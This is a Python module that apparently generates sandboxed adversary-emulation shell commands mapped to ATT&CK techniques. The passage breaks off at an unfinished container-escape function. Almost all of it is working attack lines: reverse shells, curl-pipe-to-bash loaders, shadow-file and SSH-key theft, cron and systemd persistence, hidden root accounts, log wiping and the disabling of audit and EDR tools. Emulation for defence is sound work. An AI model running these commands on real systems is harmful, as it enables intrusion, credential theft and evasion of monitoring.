"""ATT&CK techniques on Linux as lines for a shell. Harmless in effect: everything happens in the sandbox, and all addresses end there."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from .plan import Plan
from .vary import Vary, encoded


@dataclass
class Intruder:
    """One intruder's habits, the same through a session."""

    plan: Plan
    server: str
    port: int
    den: str
    loader: str
    handle: str

    @property
    def vary(self) -> Vary:
        return self.plan.vary

    @classmethod
    def of(cls, plan: Plan) -> Intruder:
        v = plan.vary
        den = v.choice(["/tmp", "/tmp/." + v.word(1), "/dev/shm", "/dev/shm/." + v.word(1), "/var/tmp", "/var/tmp/.cache", f"/tmp/.X{v.randint(11, 99)}-unix", "/var/tmp/systemd-private-" + v.hex(8), "/run/lock/." + v.hex(4), "/usr/local/share/." + v.word(1), plan.home + "/.config/." + v.word(1), "/opt/." + v.word(1)])
        server = v.choice([v.public(), v.public(), v.domain()])
        loader = v.choice(["curl -s {u} -o {o}", "wget -q {u} -O {o}", "curl -fsSL {u} > {o}", "python3 -c \"import urllib.request as u;open('{o}','wb').write(u.urlopen('{u}').read())\"", "perl -e 'use IO::Socket::INET;$s=IO::Socket::INET->new(\"{h}:{p}\");print $s \"GET / HTTP/1.0\\n\\n\";open F,\">{o}\";print F <$s>;'", "exec 5<>/dev/tcp/{h}/{p}; printf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&5; cat <&5 > {o}"])
        return cls(plan, server, v.choice([80, 8080, 8000, 8888, 9001, 443]), den, loader, v.word(2))

    def fetch(self, name: str, body: str) -> list[str]:
        v = self.vary
        path = f"/{v.choice(['', 'x/', 'u/', v.hex(4) + '/'])}{v.choice([name, v.hex(6), name + '.sh', name + '.txt', name + '.jpg'])}"
        self.plan.web[path] = body
        scheme = "https" if self.port in (443, 8443) else "http"
        url = f"{scheme}://{self.server}" + ("" if self.port in (80, 443) else f":{self.port}") + path
        out = f"{self.den}/{name}"
        command = self.loader.replace("{u}", url).replace("{o}", out).replace("{h}", self.server).replace("{p}", str(self.port))
        return [f"mkdir -p {self.den}", command]

    def run(self, name: str, body: str) -> list[str]:
        """Brings a script here and starts it, one way or another."""
        v = self.vary
        out = f"{self.den}/{name}"
        start = v.choice([f"chmod +x {out}; {out}", f"chmod 777 {out} && {out}", f"bash {out}", f"sh {out}", f"nohup {out} >/dev/null 2>&1 &\nchmod +x {out}; (setsid {out} >/dev/null 2>&1 &)", f"chmod 755 {out}; cd {self.den}; ./{name}"])
        if v.maybe(0.35):
            return [self.piped(body)]
        lines = self.fetch(name, "#!/bin/bash\n" + body + "\n")
        # The perl and /dev/tcp loaders leave headers in the file; what runs is laid there plainly.
        return [*lines, f"cat > {out} <<'Z'\n#!/bin/bash\n{body}\nZ", *start.split("\n")[-1:], v.choice([f"rm -f {out}", "true", "true"])]

    def piped(self, body: str) -> str:
        v = self.vary
        path = f"/{v.hex(5)}"
        self.plan.web[path] = body + "\n"
        url = f"http://{self.server}:8080{path}"
        return v.choice([f"curl -s {url} | bash", f"wget -qO- {url} | sh", f"(curl -s {url}||wget -q -O- {url})|bash -sh", f"bash <(curl -s {url})", f"echo {encoded(body)} | base64 -d | bash", f"eval \"$(echo {encoded(body)} | base64 --decode)\"", f"python3 -c \"import os,base64;os.system(base64.b64decode('{encoded(body)}').decode())\"", f"perl -MMIME::Base64 -e 'system(decode_base64(\"{encoded(body)}\"))'", f"echo {body.encode().hex()} | xxd -r -p | sh"])


Technique = Callable[[Intruder], list[str]]
ALL: dict[str, tuple[str, Technique]] = {}


def technique(number: str, name: str) -> Callable[[Technique], Technique]:
    def register(function: Technique) -> Technique:
        ALL[name] = (number, function)
        return function

    return register


def few(i: Intruder, commands: list[str], least: int, most: int) -> list[str]:
    return i.vary.some(commands, least, most)


@technique("T1082", "system_discovery")
def system_discovery(i: Intruder) -> list[str]:
    return few(i, ["uname -a", "cat /etc/os-release", "cat /proc/version", "hostname", "lscpu", "cat /proc/cpuinfo | grep 'model name' | head -1", "df -h", "free -m", "cat /etc/issue", "lsb_release -a", "nproc", "uptime", "dmidecode 2>/dev/null | head -3", "lsblk", "env", "date"], 2, 7)


@technique("T1033", "user_discovery")
def user_discovery(i: Intruder) -> list[str]:
    return few(i, ["id", "whoami", "w", "who -a", "last | head", "groups", "cat /etc/passwd", "getent passwd", "cat /etc/group", "grep -v nologin /etc/passwd", "ls -la /home", "sudo -n -l", "lastlog | grep -v Never", "echo $HOME; pwd"], 2, 6)


@technique("T1057", "process_discovery")
def process_discovery(i: Intruder) -> list[str]:
    return few(i, ["ps aux", "ps -ef --forest", "ps auxwww | grep -v '\\['", "top -bn1 | head", "pgrep -l ssh", "ls /proc | grep -E '^[0-9]+$' | wc -l", "cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' ' | head -c 500", "systemctl list-units --type=service"], 1, 3)


@technique("T1016", "network_discovery")
def network_discovery(i: Intruder) -> list[str]:
    return few(i, ["ip a", "ifconfig -a", "ip route", "arp -a", "cat /etc/resolv.conf", "cat /etc/hosts", "ss -antp", "netstat -antup", "cat /proc/net/tcp", "cat /proc/net/arp", "iptables -L -n", f"curl -s http://ifconfig.{i.vary.domain()}", "curl -s http://ipinfo.example.net/ip", "hostname -I"], 2, 6)


@technique("T1518.001", "security_software_discovery")
def security_software_discovery(i: Intruder) -> list[str]:
    return few(i, ["ps aux | grep -iE 'falcon|wazuh|ossec|clam|auditd|sysmon|edr|defend' | grep -v grep", "ls /opt /etc | grep -iE 'ossec|crowdstrike|sentinel'", "systemctl status auditd falcon-sensor 2>/dev/null", "lsmod | grep -E 'falcon|lttng'", "getenforce; sestatus", "aa-status", "cat /etc/audit/audit.rules", "which clamscan rkhunter chkrootkit"], 2, 4)


@technique("T1083", "file_discovery")
def file_discovery(i: Intruder) -> list[str]:
    return few(i, ["find / -perm -4000 -type f 2>/dev/null", "find / -writable -type d 2>/dev/null | head", "find /home /root -name '*.pem' -o -name 'id_rsa*' 2>/dev/null", "find / -name '*.kdbx' 2>/dev/null | head -2", "ls -la /root /home/*/ 2>/dev/null", "find /var/www /srv -name '*config*' 2>/dev/null | head", "ls -laR /opt 2>/dev/null | head", "find / -name .env -type f 2>/dev/null | head", "getcap -r / 2>/dev/null", "cat /etc/crontab; ls /etc/cron*", "find / -mmin -10 -type f 2>/dev/null | grep -v proc | head"], 2, 5)


@technique("T1046", "port_scan")
def port_scan(i: Intruder) -> list[str]:
    v = i.vary
    net = ".".join(v.private().split(".")[:3])
    first = v.randint(1, 200)
    tool = f"{i.den}/{v.choice(['masscan', 'nmap', 'fscan', 's', 'sc', 'zmap', 'pscan'])}"
    return v.choice([
        [f"for h in $(seq {first} {first + v.randint(4, 12)}); do (timeout 0.3 bash -c \"echo >/dev/tcp/{net}.$h/22\") 2>/dev/null && echo $h; done"],
        [f"python3 -c \"import socket\nfor p in (21,22,23,80,443,445,1433,3306,3389,5432,6379,8080,9200,27017):\n  s=socket.socket();s.settimeout(0.2)\n  print(p,s.connect_ex(('{net}.{first}',p)))\""],
        [f"cp {i.plan.tool('/usr/lib/.scan')} {tool} 2>/dev/null; mkdir -p {i.den}", f"{i.plan.shell_tool(tool, [f'scan {net}.{first} 20 60', f'scan {net}.{first + 1} 79 90', f'write {i.den}/out.txt'])} -p1-1000 {net}.0/24 --rate {v.randint(100, 5000)}", f"cat {i.den}/out.txt"],
        [f"for p in 22 80 443 3306 6379 2375 10250; do timeout 0.3 bash -c \"</dev/tcp/{net}.{first}/$p\" && echo $p open; done 2>/dev/null"],
        [f"perl -MIO::Socket::INET -e 'for $h ({first}..{first + 6}) {{ for $p (22,80,445) {{ IO::Socket::INET->new(PeerAddr=>\"{net}.$h\",PeerPort=>$p,Timeout=>1) and print \"$h $p\\n\" }} }}'"],
    ])


@technique("T1552.001", "credentials_in_files")
def credentials_in_files(i: Intruder) -> list[str]:
    return few(i, ["grep -riE 'password|passwd|secret|api_key' /etc /opt /srv /var/www 2>/dev/null | head -20", "find / -name '.git-credentials' -o -name '.netrc' -o -name '.pgpass' 2>/dev/null | xargs cat 2>/dev/null", "cat ~/.aws/credentials ~/.docker/config.json ~/.kube/config 2>/dev/null", "cat /home/*/.aws/credentials /root/.aws/credentials 2>/dev/null", "find / -name wp-config.php -exec grep DB_ {} + 2>/dev/null", "strings /proc/1/environ 2>/dev/null", "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -iE 'key|pass|token'", "grep -r 'BEGIN .*PRIVATE KEY' /home /root /etc 2>/dev/null", "cat /var/lib/jenkins/secrets/* /etc/ansible/hosts 2>/dev/null"], 2, 5)


@technique("T1552.003", "shell_history")
def shell_history(i: Intruder) -> list[str]:
    return few(i, ["cat ~/.bash_history | grep -iE 'pass|ssh|mysql'", "cat /home/*/.bash_history /root/.bash_history 2>/dev/null", "find / -name '.*_history' 2>/dev/null | xargs grep -hiE 'sshpass|-p ' 2>/dev/null", "cat /home/*/.mysql_history 2>/dev/null"], 1, 2)


@technique("T1003.008", "shadow_read")
def shadow_read(i: Intruder) -> list[str]:
    d = i.den
    return i.vary.choice([["cat /etc/shadow"], [f"mkdir -p {d}", f"cp /etc/shadow {d}/.s; cp /etc/passwd {d}/.p"], [f"mkdir -p {d}", f"tar cf {d}/e.tar /etc/shadow /etc/passwd /etc/ssh 2>/dev/null"], ["dd if=/etc/shadow bs=4096 count=1 2>/dev/null | base64 -w0"], ["awk -F: '$2 ~ /\\$/ {print}' /etc/shadow", "cat /etc/gshadow"], [f"mkdir -p {d}", f"install -m 644 /etc/shadow {d}/x", f"xxd -p {d}/x | head -2"], ["python3 -c \"print(open('/etc/shadow').read())\""]])


@technique("T1552.004", "private_keys")
def private_keys(i: Intruder) -> list[str]:
    d = i.den
    return few(i, ["cat ~/.ssh/id_rsa ~/.ssh/id_ed25519 2>/dev/null", "cat /home/*/.ssh/id_* /root/.ssh/id_* 2>/dev/null", "cat ~/.ssh/known_hosts ~/.ssh/config 2>/dev/null", f"mkdir -p {d}; tar czf {d}/k.tgz /home/*/.ssh /root/.ssh /etc/ssh 2>/dev/null", "find / \\( -name '*.key' -o -name '*.p12' \\) 2>/dev/null | head", "for k in /home/*/.ssh/*; do base64 -w0 $k; done 2>/dev/null", "ls -la /home/*/.ssh /root/.ssh"], 1, 4)


@technique("T1003.007", "proc_memory")
def proc_memory(i: Intruder) -> list[str]:
    return i.vary.choice([["gcore -o /tmp/c $(pgrep -o sshd) 2>/dev/null", "strings /tmp/c.* 2>/dev/null | grep -i pass | head"], ["p=$(pgrep -o bash); grep heap /proc/$p/maps; dd if=/proc/$p/mem bs=1 count=16 of=/dev/null 2>/dev/null"], ["python3 -c \"import os\nfor p in os.listdir('/proc'):\n  if p.isdigit():\n    try: open('/proc/%s/maps'%p).read()\n    except OSError: pass\""], ["gdb -p $(pgrep -o bash) -batch -ex 'info proc mappings' 2>/dev/null | head"]])


@technique("T1053.003", "cron_persistence")
def cron_persistence(i: Intruder) -> list[str]:
    v = i.vary
    line = v.choice([f"* * * * * root curl -fsSL http://{i.server}/{v.hex(4)}|bash", f"*/{v.randint(1, 30)} * * * * root {i.den}/{i.handle} >/dev/null 2>&1", f"@reboot root {i.den}/{i.handle} &"])
    user_line = line.replace(" root", "", 1)
    name = v.choice([v.word(1), "apache2", "php", "root", "0systemd", ".sys", "update-" + v.word(1)])
    return v.choice([[f"echo '{line}' > /etc/cron.d/{name}"], [f"(crontab -l 2>/dev/null; echo '{user_line}') | crontab -", f"echo '{user_line}' >> /var/spool/cron/crontabs/root"], [f"printf '#!/bin/sh\\n{i.den}/{i.handle} &\\n' > /etc/cron.hourly/{name}", f"chmod 755 /etc/cron.hourly/{name}"], [f"echo '{line}' >> /etc/crontab", "touch -r /etc/passwd /etc/crontab"], [f"mkdir -p /var/spool/cron/crontabs; echo '{user_line}' > /var/spool/cron/root; echo '{user_line}' > /var/spool/cron/crontabs/root"]])


@technique("T1543.002", "systemd_persistence")
def systemd_persistence(i: Intruder) -> list[str]:
    v = i.vary
    name = v.choice([f"{v.word(1)}d", "dbus-update", "systemd-networkm", "kworkerd", "sshd-agent", "pakchoi"])
    started = v.choice([f"{i.den}/{i.handle}", f'/bin/bash -c "bash -i >& /dev/tcp/{i.server}/4444 0>&1"'])
    unit = f"[Unit]\\nDescription={name}\\n[Service]\\nExecStart={started}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n"
    folder = v.choice(["/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system", "/root/.config/systemd/user"])
    return [f"mkdir -p {folder}", f"printf '{unit}' > {folder}/{name}.service", *v.some(["systemctl daemon-reload", f"systemctl enable {name}", f"systemctl start {name}", f"ln -s {folder}/{name}.service /etc/systemd/system/multi-user.target.wants/"], 1, 3)]


@technique("T1037.004", "rc_persistence")
def rc_persistence(i: Intruder) -> list[str]:
    return i.vary.choice([[f"echo '{i.den}/{i.handle} &' >> /etc/rc.local", "chmod +x /etc/rc.local"], [f"printf '#!/bin/sh\\n{i.den}/{i.handle} &\\n' > /etc/init.d/{i.handle}", f"chmod 755 /etc/init.d/{i.handle}", f"update-rc.d {i.handle} defaults 2>/dev/null", f"ln -s /etc/init.d/{i.handle} /etc/rc3.d/S99{i.handle} 2>/dev/null"], [f"echo '#!/bin/sh\nnohup {i.den}/{i.handle} &' > /etc/update-motd.d/00-{i.handle}", f"chmod +x /etc/update-motd.d/00-{i.handle}"]])


@technique("T1546.004", "shell_profile")
def shell_profile(i: Intruder) -> list[str]:
    return i.vary.choice([[f"echo 'nohup {i.den}/{i.handle} >/dev/null 2>&1 &' >> ~/.bashrc"], [f"echo \"alias sudo='{i.den}/{i.handle}'\" >> ~/.bash_aliases; echo '. ~/.bash_aliases' >> ~/.profile"], [f"echo '{i.den}/{i.handle} &' > /etc/profile.d/{i.handle}.sh"], ["echo 'export LD_PRELOAD=/usr/lib/libx.so' >> /etc/profile"]])


@technique("T1098.004", "authorized_keys")
def authorized_keys(i: Intruder) -> list[str]:
    v = i.vary
    key = f"ssh-rsa AAAAB3NzaC1yc2E{v.hex(60)} {v.choice([v.word(), 'root@kali', 'mdrfckr'])}"
    return v.choice([["mkdir -p ~/.ssh; chmod 700 ~/.ssh", f"echo '{key}' >> ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys"], [f"rm -rf ~/.ssh && mkdir ~/.ssh && echo '{key}' > ~/.ssh/authorized_keys && chattr +ia ~/.ssh/authorized_keys"], [f"for u in /home/* /root; do mkdir -p $u/.ssh; echo '{key}' >> $u/.ssh/authorized_keys; done"], [f"echo {encoded(key)} | base64 -d >> /root/.ssh/authorized_keys; sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config"]])


@technique("T1574.006", "ld_preload")
def ld_preload(i: Intruder) -> list[str]:
    v = i.vary
    lib = v.choice([f"/usr/lib/lib{v.word(1)}.so", f"{i.den}/{v.word(1)}.so", "/lib/x86_64-linux-gnu/libselinux.so.8", "/usr/local/lib/libprocesshider.so"])
    return [f"mkdir -p {i.den}", f"printf 'int x(){{return 0;}}\\n' > {i.den}/p.c", f"gcc -shared -fPIC -o {lib} {i.den}/p.c", v.choice([f"echo {lib} > /etc/ld.so.preload", f"echo '{lib}' >> /etc/ld.so.preload; chattr +i /etc/ld.so.preload", f"LD_PRELOAD={lib} id"]), f"rm -f {i.den}/p.c", "rm -f /etc/ld.so.preload"]


@technique("T1136.001", "create_account")
def create_account(i: Intruder) -> list[str]:
    v = i.vary
    name = v.choice([v.word(1), "sysadm", "support1", "daem0n", "system", v.word(2)])
    return v.choice([[f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {name}", f"echo '{name}:{v.hex(6)}' | chpasswd"], [f"echo '{name}:x:0:0::/root:/bin/bash' >> /etc/passwd", f"echo '{name}:$6${v.hex(16)}:19000:0:99999:7:::' >> /etc/shadow"], [f"useradd -m -s /bin/bash {name} -p '$1${v.hex(8)}'", f"usermod -aG sudo {name}", f"echo '{name} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"], ["usermod -s /bin/bash www-data; usermod -p x www-data", "sed -i 's#/usr/sbin/nologin#/bin/bash#' /etc/passwd"], [f"openssl passwd -1 {v.hex(6)}", f"echo '{v.word(1)}:$1$x:0:0:root:/root:/bin/sh' >> /etc/passwd"]])


@technique("T1548.001", "setuid_shell")
def setuid_shell(i: Intruder) -> list[str]:
    out = f"{i.den}/.{i.handle}"
    return i.vary.choice([[f"mkdir -p {i.den}; cp /bin/bash {out}; chmod 4755 {out}", f"{out} -p -c id"], ["chmod u+s /usr/bin/find", "find . -maxdepth 0 -exec /bin/sh -p -c id \\;", "chmod u-s /usr/bin/find"], [f"mkdir -p {i.den}; cp /usr/bin/python3.11 {out}; setcap cap_setuid+ep {out}; {out} -c 'import os; os.setuid(0); os.system(\"id\")'"], [f"mkdir -p {i.den}; printf 'int main(){{setuid(0);setgid(0);return system(\"id\");}}' > {out}.c; gcc -w -o {out} {out}.c; chown root {out}; chmod 4777 {out}; {out}"]])


@technique("T1548.003", "sudo_abuse")
def sudo_abuse(i: Intruder) -> list[str]:
    return i.vary.choice([["sudo -n -l", f"echo '{i.plan.user} ALL=(ALL:ALL) NOPASSWD: ALL' > /etc/sudoers.d/{i.handle}", f"chmod 440 /etc/sudoers.d/{i.handle}"], ["sudo -V | head -1; sudoedit -s /", "echo 'Defaults !tty_tickets' >> /etc/sudoers"], ["echo 'Defaults !logfile,!syslog' >> /etc/sudoers", "sudo -k -n id"]])


@technique("T1218", "living_off_the_land")
def living_off_the_land(i: Intruder) -> list[str]:
    return few(i, ["find . -maxdepth 0 -exec /bin/sh -c id \\; -quit", "awk 'BEGIN {system(\"/bin/sh -c id\")}'", "perl -e 'exec \"/bin/sh\", \"-c\", \"id\"'", "python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\", \"-c\", \"id\")'", "vim -es -c ':!id' -c q", "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sh -c id'", "env /bin/sh -c id", "xargs -a /dev/null sh -c id", "make -s --eval=$'x:\\n\\t-'\"id\"", "git -c core.pager='sh -c id' help -a | head -1", "gdb -nx -ex '!id' -ex quit -batch", "ed <<< '!id'", "timeout 2 sh -c id", "nice sh -c id", "flock -u / sh -c id", "setarch x86_64 sh -c id", "strace -o /dev/null sh -c id", "ld.so /bin/id", "sqlite3 /dev/null '.shell id'", "tclsh <<< 'exec id'", "run-parts --regex x /etc; busybox sh -c id", "bash -c 'exec -a [kworker/0:1] id'", "openssl enc -base64 -in /etc/passwd", "jq -R . /etc/passwd | head -1", "ssh -o ProxyCommand=';sh -c id 0<&2 1>&2' x", "dpkg -l >/dev/null; apt-get changelog -o APT::Update::Pre-Invoke::=id x"], 2, 5)


@technique("T1059.004", "reverse_shell")
def reverse_shell(i: Intruder) -> list[str]:
    v = i.vary
    port = v.choice([4444, 1337, 9001, 53, 443, 5555, 31337, 8443, 6666]) if not i.plan.shells else next(iter(i.plan.shells))
    if port in (53, 443, 8443):
        port = 4443
    inner: list[str] = []
    for _ in range(v.randint(2, 4)):
        inner += v.choice([system_discovery, user_discovery, network_discovery, file_discovery, private_keys, shadow_read, process_discovery])(i)
        inner += [v.short(), v.wait()]
    i.plan.shells[port] = [line for line in inner if "\n" not in line]
    h = i.server
    return [v.choice([f"bash -i >& /dev/tcp/{h}/{port} 0>&1", f"bash -c 'bash -i >& /dev/tcp/{h}/{port} 0>&1'", f"0<&196;exec 196<>/dev/tcp/{h}/{port}; sh <&196 >&196 2>&196", f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|bash -i 2>&1|(exec 7<>/dev/tcp/{h}/{port}; cat <&7 & cat >&7) >/tmp/f", f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/bash\",\"-i\"])'", f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{h}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"bash\")'", f"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({port},inet_aton(\"{h}\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"bash\");'", f"timeout 15 openssl s_client -quiet -connect {h}:{port} 2>/dev/null | bash", f"exec 5<>/dev/tcp/{h}/{port};cat <&5 | while read line; do eval \"$line\" 2>&5 >&5; done", f"setsid bash -c 'exec bash -i &>/dev/tcp/{h}/{port} <&1' &", f"node -e 'c=require(\"child_process\").spawn(\"bash\",[]);s=require(\"net\").connect({port},\"{h}\",()=>{{s.pipe(c.stdin);c.stdout.pipe(s);}});c.on(\"exit\",()=>process.exit());setTimeout(()=>process.exit(),12000)'"])]


@technique("T1571", "bind_shell")
def bind_shell(i: Intruder) -> list[str]:
    port = i.vary.randint(2000, 60000)
    return [f"(timeout 3 python3 -c \"import socket,subprocess\ns=socket.socket();s.bind(('0.0.0.0',{port}));s.listen(1);c,_=s.accept();subprocess.call(['/bin/sh','-c','id;uname -a'],stdout=c.fileno())\" &)", "sleep 0.3", f"timeout 1 bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"]


@technique("T1071.001", "beacon")
def beacon(i: Intruder) -> list[str]:
    v = i.vary
    path = f"{i.den}/{v.choice([i.handle, 'kworker', 'sshd', '[kthreadd]', '.x', 'systemd-resolve', 'dbus-daemon', 'agent'])}"
    ops = []
    for _ in range(v.randint(3, 9)):
        ops += [f"connect {i.server} {v.choice([443, 80, i.port])}", f"pause {v.choice([5, 10, 20, 30, 60])}"]
        if v.maybe(0.4):
            ops.append(f"sh {v.choice(['id', 'uname -a', 'ps aux', 'cat /etc/passwd', 'ls -la /home', 'ip a', 'netstat -ant', 'whoami'])}")
    if v.maybe(0.4):
        return [f"mkdir -p {i.den}", f"for n in 1 2 3 4; do curl -s -A 'Mozilla/5.0' -d \"h=$(hostname)\" http://{i.server}/{v.hex(6)} | head -c 10; pause {v.choice([10, 30, 60])}; done"]
    i.plan.shell_tool(path, ops)
    return [f"{path} &" if "[" not in path else f"'{path}' &", "sleep 0.6"]


@technique("T1105", "tool_transfer")
def tool_transfer(i: Intruder) -> list[str]:
    v = i.vary
    name = v.choice(["linpeas.sh", "pspy64", "chisel", "lse.sh", "les.sh", "frpc", "x", v.word(1), ".update", "n", "agent", "traitor"])
    body = "\n".join([*few(i, ["id", "uname -r", "cat /etc/passwd | wc -l", "find / -perm -4000 -type f 2>/dev/null | head -3", "ls -la /etc/cron.d", "ps aux | wc -l", "getcap /usr/bin/* 2>/dev/null | head", "ss -ltn", "cat /etc/sudoers 2>/dev/null | head -1", "env | head -3", "sudo -n -l 2>/dev/null", "grep -c bash /etc/passwd", "mount | grep -v proc | head -3", "for f in /home/*; do ls -la $f; done"], 4, 10)])
    return i.run(name, body)


@technique("T1027", "encoded_payload")
def encoded_payload(i: Intruder) -> list[str]:
    v = i.vary
    body = "; ".join(few(i, ["id", "uname -a", "cat /etc/passwd", "ls -la /root", f"mkdir -p {i.den}; echo x > {i.den}/{v.hex(4)}", "ps aux | head", f"curl -s http://{i.server}/{v.hex(4)} -o /dev/null", "hostname"], 2, 4))
    return v.choice([[f"echo {encoded(body)} | base64 -d | bash"], [f"bash -c \"$(base64 -d <<< {encoded(body)})\""], [f"echo {encoded(body[::-1])} | base64 -d | rev | bash"], [f"mkdir -p {i.den}; echo '{body}' | gzip | base64 -w0 > {i.den}/.z; base64 -d {i.den}/.z | gunzip | sh"], [f"echo {body.encode().hex()} | xxd -p -r | bash"], [f"openssl enc -aes-128-cbc -pbkdf2 -k k -a -out /tmp/.e <<< '{body}' && openssl enc -d -aes-128-cbc -pbkdf2 -k k -a -in /tmp/.e | bash"], [f"python3 -c \"exec(__import__('base64').b64decode('{encoded('import os; os.system(' + repr(body) + ')')}'))\""], [f"perl -MMIME::Base64 -e 'eval decode_base64(\"{encoded('system(q{' + body + '});')}\")'"]])


@technique("T1620", "memory_execution")
def memory_execution(i: Intruder) -> list[str]:
    v = i.vary
    if v.maybe(0.5):
        return [f"python3 -c \"import os,ctypes\nf=os.memfd_create('{v.choice(['', 'kworker', 'x'])}',0)\nos.write(f,open('/usr/bin/id','rb').read())\np='/proc/self/fd/%d'%f\nos.fork() or os.execv(p,['{v.choice(['[kworker/u2:1]', 'sshd', 'id'])}'])\nos.wait()\""]
    path = f"{i.den}/{v.word(1)}"
    i.plan.shell_tool(path, ["\t".join(["memory /usr/bin/uname", v.choice(["[kworker/0:2]", "[migration/0]", "rsyslogd"]), "-a"]), f"connect {i.server} {i.port}"])
    return [path]


@technique("T1036.004", "masquerade")
def masquerade(i: Intruder) -> list[str]:
    v = i.vary
    source = v.choice(["/bin/sh", "/usr/bin/curl", "/usr/bin/python3.11", "/usr/bin/id", "/usr/bin/wget", "/usr/bin/perl"])
    target = f"{i.den}/{v.choice(['sshd', 'kworker', 'systemd-journal', 'crond', '...', '.bash', 'httpd', 'udevd', 'rsync', 'update'])}"
    option = {"/bin/sh": "-c id", "/usr/bin/curl": f"-s http://{i.server}/ -o /dev/null", "/usr/bin/python3.11": "-c 'print(1)'", "/usr/bin/id": "", "/usr/bin/wget": f"-q http://{i.server}/ -O /dev/null", "/usr/bin/perl": "-e 'system(\"id\")'"}[source]
    return [f"mkdir -p {i.den}", f"cp {source} {target}", v.choice([f"touch -r /bin/ls {target}", "true"]), v.choice([f"{target} {option}", f"bash -c 'exec -a [kworker/1:0] {target} {option.replace(chr(39), chr(34))}'", f"cd {i.den}; ./{target.rsplit('/', 1)[1]} {option}"])]


@technique("T1070.002", "clear_logs")
def clear_logs(i: Intruder) -> list[str]:
    return few(i, ["echo > /var/log/wtmp", "cat /dev/null > /var/log/auth.log; > /var/log/lastlog", "rm -rf /var/log/*.log /var/log/apt", "truncate -s 0 /var/log/syslog /var/log/btmp", "sed -i '/" + i.server + "/d' /var/log/alternatives.log /var/log/dpkg.log", "journalctl --rotate; journalctl --vacuum-time=1s", "shred -u /var/log/faillog", "for l in /var/log/*; do [ -f $l ] && > $l; done", "find /var/log -type f -exec truncate -s 0 {} +", "service rsyslog stop", "ln -sf /dev/null /var/log/wtmp"], 1, 4)


@technique("T1070.003", "clear_history")
def clear_history(i: Intruder) -> list[str]:
    return few(i, ["history -c", "unset HISTFILE", "export HISTFILE=/dev/null HISTSIZE=0", "rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history", "cat /dev/null > ~/.bash_history", "shred -zu ~/.bash_history", "kill -0 $$; set +o history"], 1, 3)


@technique("T1070.006", "timestomp")
def timestomp(i: Intruder) -> list[str]:
    return [f"mkdir -p {i.den}; touch {i.den}/{i.handle}", i.vary.choice([f"touch -r /bin/ls {i.den}/{i.handle}", f"touch -t 20190101{i.vary.randint(1000, 2359)} {i.den}/{i.handle}", f"touch -d '2 years ago' {i.den}/* /etc/passwd"]), f"stat {i.den}/{i.handle}"]


@technique("T1562.001", "disable_defences")
def disable_defences(i: Intruder) -> list[str]:
    return few(i, ["systemctl stop auditd; systemctl disable auditd", "pkill -9 auditd; pkill -9 rsyslogd", "setenforce 0; echo SELINUX=disabled > /etc/selinux/config", "service apparmor stop; systemctl disable apparmor", "iptables -F; iptables -X; iptables -P INPUT ACCEPT", "ufw disable", "auditctl -e 0; auditctl -D", "systemctl stop falcon-sensor wazuh-agent osqueryd", "rm -rf /opt/edr /var/ossec", "echo 0 > /proc/sys/kernel/nmi_watchdog", "apt-get remove -y -qq clamav rkhunter", "killall -9 falcon-sensor ossec-agentd aliyun-service", "ulimit -n 65535; echo 128 > /proc/sys/vm/nr_hugepages", "chattr -R -ia /etc/cron.d /root/.ssh"], 2, 5)


@technique("T1562.003", "tamper_with_lookup")
def tamper_with_lookup(i: Intruder) -> list[str]:
    v = i.vary
    return v.choice([[f"echo '127.0.0.1 updates.{v.domain()} edr.{v.domain()}' >> /etc/hosts"], [f"echo 'nameserver {v.public()}' > /etc/resolv.conf"], [f"cp /bin/ps /bin/ps.orig; printf '#!/bin/sh\\n/bin/ps.orig \"$@\" | grep -v {i.handle}\\n' > /usr/local/bin/ps; chmod +x /usr/local/bin/ps"], ["sed -i 's/^UsePAM.*/UsePAM yes/; s/^#*PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config; systemctl restart sshd"], [f"printf 'auth sufficient pam_{v.word(1)}.so\\n' >> /etc/pam.d/common-auth", "cp /etc/hostname /lib/x86_64-linux-gnu/security/pam_x.so"]])


@technique("T1014", "kernel_module")
def kernel_module(i: Intruder) -> list[str]:
    return i.vary.choice([[f"mkdir -p {i.den}; echo x > {i.den}/{i.handle}.ko", f"insmod {i.den}/{i.handle}.ko 2>/dev/null", f"echo {i.handle} >> /etc/modules", "lsmod | head -3"], ["ls /lib/modules/$(uname -r)/build 2>/dev/null", "modprobe diamorphine 2>/dev/null", "depmod -a 2>/dev/null", "dmesg -C 2>/dev/null"], ["cat /proc/kallsyms | head -1", "sysctl kernel.unprivileged_bpf_disabled", f"mkdir -p {i.den}; printf 'obj-m += r.o\\n' > {i.den}/Makefile; make -C {i.den} 2>/dev/null", f"insmod {i.den}/r.ko"]])


@technique("T1611", "container_escape")
def container_escape(i: Intruder) -> list[str]:
